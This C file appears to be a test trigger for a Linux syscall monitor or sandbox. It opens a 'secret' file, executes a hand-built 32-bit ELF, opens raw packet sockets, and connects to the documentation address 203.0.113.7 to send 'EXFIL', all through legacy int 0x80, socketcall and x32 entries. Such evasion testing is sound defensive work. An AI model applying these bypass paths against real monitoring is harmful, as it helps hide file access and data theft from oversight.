/* SPDX-License-Identifier: Apache-2.0 */
/*
 * compat_ways WAYS DIR PORT: system calls through the 32-bit and x32 entries. Each way has
 * DIR/WAY/secret/file and the empty directory DIR/WAY/scratch; a socket listens at DIR/sock,
 * DIR/alias is a symlink to it, and one at PORT of 203.0.113.7.
 */
#include "trigger.h"

#include <arpa/inet.h>
#include <linux/net.h>
#include <sys/socket.h>
#include <sys/un.h>

#ifndef __x86_64__
int main(void)
{
	fprintf(stderr, "compat_ways: cannot: this machine has no such entries\n");
	return 77;
}
#else

#include <elf.h>

/* arch/x86/entry/syscalls/syscall_32.tbl */
#define NR32_OPEN	    5
#define NR32_CREAT	    8
#define NR32_UNLINK	    10
#define NR32_EXECVE	    11
#define NR32_GETPID	    20
#define NR32_SOCKETCALL	    102
#define NR32_OPENAT	    295
#define NR32_OPEN_BY_HANDLE 342
#define NR32_SOCKET	    359
#define NR32_CONNECT	    362
#define NR32_LISTEN	    363
#define NR32_OPENAT2	    437
#define X32_BIT		    0x40000000

#define FLOOD 1000

static const char *base;
static char path[PATH_MAX / 2], scratch[PATH_MAX / 2];
static char *low; /* memory that 32 bits can name */
static size_t low_used;
static struct sockaddr_in peer = { .sin_family = AF_INET };

static void must(long r, const char *what)
{
	if (r < 0)
		die(what);
}

static void prepare_way(void)
{
	snprintf(path, sizeof(path), "%s/%s/secret/file", base, current->name);
	snprintf(scratch, sizeof(scratch), "%s/%s/scratch", base, current->name);
	low = mmap(NULL, 4 * BYTES_MAX, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED)
		die("mmap");
}

static char *low_copy(const void *what, size_t size)
{
	char *at = low + low_used;

	memcpy(at, what, size);
	low_used += (size + 15) & ~15UL;
	return at;
}

static char *low_text(const char *text)
{
	return low_copy(text, strlen(text) + 1);
}

static long int80(long nr, long a, long b, long c)
{
	long r;

	asm volatile("int $0x80"
		     : "=a"(r)
		     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(0L), "D"(0L)
		     : "memory", "r8", "r9", "r10", "r11");
	r = (int)r;
	errno = r < 0 ? -r : 0;
	return r < 0 ? -1 : r;
}

static void look(long fd)
{
	char byte;

	truth->got = fd >= 0 && read(fd, &byte, 1) > 0;
}

/* ------------------------------------------------------------------ files */
static void by_open(void)
{
	before(path);
	look(after(int80(NR32_OPEN, (long)low_text(path), O_RDONLY, 0)));
}

static void by_openat(void)
{
	before(path);
	look(after(int80(NR32_OPENAT, AT_FDCWD, (long)low_text(path), O_RDONLY)));
}

static void by_openat2(void)
{
	struct open_how how = { .flags = O_RDONLY };
	long at = (long)low_copy(&how, sizeof(how)), r;

	before(path);
	asm volatile("int $0x80"
		     : "=a"(r)
		     : "a"(NR32_OPENAT2), "b"((long)AT_FDCWD), "c"(low_text(path)), "d"(at),
		       "S"(sizeof(how)), "D"(0L)
		     : "memory", "r8", "r9", "r10", "r11");
	errno = (int)r < 0 ? -(int)r : 0;
	look(after((int)r < 0 ? -1 : r));
}

static void by_creat(void)
{
	before(path);
	after(int80(NR32_CREAT, (long)low_text(path), 0600, 0));
}

static const char *linked_name(void)
{
	static char name[PATH_MAX];

	snprintf(name, sizeof(name), "%s/link", scratch);
	must(symlink(path, name), "symlink");
	return name;
}

static void by_symlink(void)
{
	const char *name = linked_name();

	before(name);
	look(after(int80(NR32_OPEN, (long)low_text(name), O_RDONLY, 0)));
}

static void by_handle(void)
{
	union {
		struct file_handle h;
		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, dir = open(scratch, O_RDONLY | O_DIRECTORY);

	must(name_to_handle_at(AT_FDCWD, path, &u.h, &mount_id, 0), "name_to_handle_at");
	before("");
	look(after(int80(NR32_OPEN_BY_HANDLE, dir, (long)low_copy(&u, sizeof(u)), O_RDONLY)));
}

static void by_missing(void)
{
	char name[2 * PATH_MAX];

	snprintf(name, sizeof(name), "%s/missing", dir_of(path));
	before(name);
	after(int80(NR32_OPEN, (long)low_text(name), O_RDONLY, 0));
}

static void by_unlink(void)
{
	before(path);
	after(int80(NR32_UNLINK, (long)low_text(path), 0, 0));
}

/* ------------------------------------------------------------------ programs */
/* A 32-bit program: opens argv[1], exits with the number of bytes that it could read, 1 at most. */
static int program32(char *at)
{
	static const unsigned char code[] = {
		0x8b, 0x5c, 0x24, 0x08,	      /* mov 8(%esp), %ebx */
		0x31, 0xc9,		      /* xor %ecx, %ecx */
		0xb8, 0x05, 0x00, 0x00, 0x00, /* mov $5, %eax: open */
		0xcd, 0x80,		      /* int $0x80 */
		0x89, 0xc3,		      /* mov %eax, %ebx */
		0x89, 0xe1,		      /* mov %esp, %ecx */
		0xba, 0x01, 0x00, 0x00, 0x00, /* mov $1, %edx */
		0xb8, 0x03, 0x00, 0x00, 0x00, /* mov $3, %eax: read */
		0xcd, 0x80,		      /* int $0x80 */
		0x89, 0xc3,		      /* mov %eax, %ebx */
		0xb8, 0x01, 0x00, 0x00, 0x00, /* mov $1, %eax: exit */
		0xcd, 0x80,		      /* int $0x80 */
	};
	const unsigned int where = 0x08048000, headers = sizeof(Elf32_Ehdr) + sizeof(Elf32_Phdr);
	Elf32_Ehdr e = { .e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS32, ELFDATA2LSB,
				      EV_CURRENT },
			 .e_type = ET_EXEC,
			 .e_machine = EM_386,
			 .e_version = EV_CURRENT,
			 .e_entry = where + headers,
			 .e_phoff = sizeof(e),
			 .e_ehsize = sizeof(e),
			 .e_phentsize = sizeof(Elf32_Phdr),
			 .e_phnum = 1 };
	Elf32_Phdr p = { .p_type = PT_LOAD,
			 .p_vaddr = where,
			 .p_filesz = headers + sizeof(code),
			 .p_memsz = headers + sizeof(code),
			 .p_flags = PF_R | PF_X,
			 .p_align = 0x1000 };

	memcpy(at, &e, sizeof(e));
	memcpy(at + sizeof(e), &p, sizeof(p));
	memcpy(at + headers, code, sizeof(code));
	return headers + sizeof(code);
}

/* The exit status says what it got: no code of ours runs any more. */
static void by_program(void)
{
	char name[PATH_MAX], image[256];
	int fd, n = program32(image);

	snprintf(name, sizeof(name), "%s/program", scratch);
	fd = open(name, O_WRONLY | O_CREAT, 0755);
	if (fd < 0 || write(fd, image, n) != n)
		die("program");
	close(fd);
	before(path);
	execl(name, name, linked_name(), NULL);
	die("exec");
}

static void by_execve(void)
{
	unsigned int argv[2] = { 0, 0 };
	char *name = low_text(path);

	argv[0] = (unsigned int)(long)name;
	before(path);
	after(int80(NR32_EXECVE, (long)name, (long)low_copy(argv, sizeof(argv)), 0));
}

/* ------------------------------------------------------------------ sockets */
static void say(int fd)
{
	truth->got = write(fd, "EXFIL", 5) == 5;
}

static long socketcall(int call, unsigned int a, unsigned int b, unsigned int c)
{
	unsigned int args[6] = { a, b, c };

	return int80(NR32_SOCKETCALL, call, (long)low_copy(args, sizeof(args)), 0);
}

static void by_connect(void)
{
	long fd;

	before("");
	fd = int80(NR32_SOCKET, AF_INET, SOCK_STREAM, 0);
	if (after(int80(NR32_CONNECT, fd, (long)low_copy(&peer, sizeof(peer)), sizeof(peer))) >= 0)
		say(fd);
}

static void by_socketcall(void)
{
	char *at = low_copy(&peer, sizeof(peer));
	long fd;

	before("");
	fd = socketcall(SYS_SOCKET, AF_INET, SOCK_STREAM, 0);
	if (after(socketcall(SYS_CONNECT, fd, (unsigned int)(long)at, sizeof(peer))) >= 0)
		say(fd);
}

static struct sockaddr_un unix_name(int linked)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s/%s", base, linked ? "alias" : "sock");
	return sun;
}

static void connect_unix(int linked)
{
	struct sockaddr_un sun = unix_name(linked);
	long fd;

	before(sun.sun_path);
	fd = int80(NR32_SOCKET, AF_UNIX, SOCK_STREAM, 0);
	if (after(int80(NR32_CONNECT, fd, (long)low_copy(&sun, sizeof(sun)), sizeof(sun))) >= 0)
		say(fd);
}

static void by_unix(void)
{
	connect_unix(0);
}

static void by_unix_symlink(void)
{
	connect_unix(1);
}

static void by_unix_socketcall(void)
{
	struct sockaddr_un sun = unix_name(1);
	char *at = low_copy(&sun, sizeof(sun));
	long fd;

	before(sun.sun_path);
	fd = socketcall(SYS_SOCKET, AF_UNIX, SOCK_STREAM, 0);
	if (after(socketcall(SYS_CONNECT, fd, (unsigned int)(long)at, sizeof(sun))) >= 0)
		say(fd);
}

static void by_packet(void)
{
	before("");
	truth->got = after(int80(NR32_SOCKET, AF_PACKET, SOCK_RAW, 0)) >= 0;
}

static void by_packet_socketcall(void)
{
	before("");
	truth->got = after(socketcall(SYS_SOCKET, AF_PACKET, SOCK_RAW, 0)) >= 0;
}

static void by_listen(void)
{
	long fd;

	before("");
	fd = int80(NR32_SOCKET, AF_INET, SOCK_STREAM, 0);
	truth->got = after(int80(NR32_LISTEN, fd, 1, 0)) >= 0;
}

/* ------------------------------------------------------------------ the entry itself */
static void by_getpid(void)
{
	before("");
	after(int80(NR32_GETPID, 0, 0, 0));
}

static void by_flood(void)
{
	long r = 0;

	before("");
	for (int i = 0; i < FLOOD; i++)
		r = int80(NR32_GETPID, 0, 0, 0);
	after(r);
}

/* Most kernels are built without it: the call fails, but somebody tried. */
static void by_x32(void)
{
	before(path);
	look(after(syscall(X32_BIT | SYS_open, low_text(path), O_RDONLY, 0)));
}

static const struct way ways[] = {
	{ "open", "file.open", by_open },
	{ "openat", "file.open", by_openat },
	{ "openat2", "file.open", by_openat2 },
	{ "creat", "file.open", by_creat },
	{ "symlink", "file.open", by_symlink },
	{ "handle", "file.open", by_handle },
	{ "missing", "file.open", by_missing },
	{ "program", "file.open", by_program },
	{ "unlink", "file.unlink", by_unlink },
	{ "execve", "process.exec", by_execve },
	{ "connect", "net.connect", by_connect },
	{ "socketcall", "net.connect", by_socketcall },
	{ "unix", "net.connect", by_unix },
	{ "unix-symlink", "net.connect", by_unix_symlink },
	{ "unix-socketcall", "net.connect", by_unix_socketcall },
	{ "packet", "net.socket", by_packet },
	{ "packet-socketcall", "net.socket", by_packet_socketcall },
	{ "listen", "net.listen", by_listen },
	{ "getpid", "syscall.compat", by_getpid },
	{ "flood", "syscall.compat", by_flood },
	{ "x32", "syscall.compat", by_x32 },
};

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "list"))
		return run_ways(ways, sizeof(ways) / sizeof(ways[0]), "list");
	if (argc != 4) {
		fprintf(stderr, "compat_ways WAYS DIR PORT\n");
		return 2;
	}
	base = argv[2];
	peer.sin_port = htons(atoi(argv[3]));
	inet_pton(AF_INET, "203.0.113.7", &peer.sin_addr);
	prepare = prepare_way;
	return run_ways(ways, sizeof(ways) / sizeof(ways[0]), argv[1]);
}
#endif
